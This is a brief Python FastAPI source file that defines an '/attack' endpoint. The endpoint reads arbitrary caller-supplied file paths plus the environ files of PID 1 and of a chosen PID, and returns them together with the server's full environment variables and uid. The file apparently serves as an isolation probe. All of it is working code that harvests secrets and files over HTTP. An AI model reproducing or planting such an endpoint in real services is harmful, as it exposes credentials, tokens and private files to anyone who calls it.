import os

from fastapi import APIRouter

router = APIRouter()


def read(path: str) -> str:
    try:
        with open(path, "rb") as f:
            return f.read(100_000).decode("latin-1")
    except OSError as exc:
        return f"refused: {type(exc).__name__}"


@router.get("/attack")
def attack(kernel_pid: int, paths: str) -> dict[str, object]:
    found = {p: read(p) for p in paths.split(",")}
    found[f"/proc/{kernel_pid}/environ"] = read(f"/proc/{kernel_pid}/environ")
    found["/proc/1/environ"] = read("/proc/1/environ")
    return {"env": dict(os.environ), "files": found, "uid": os.getuid()}
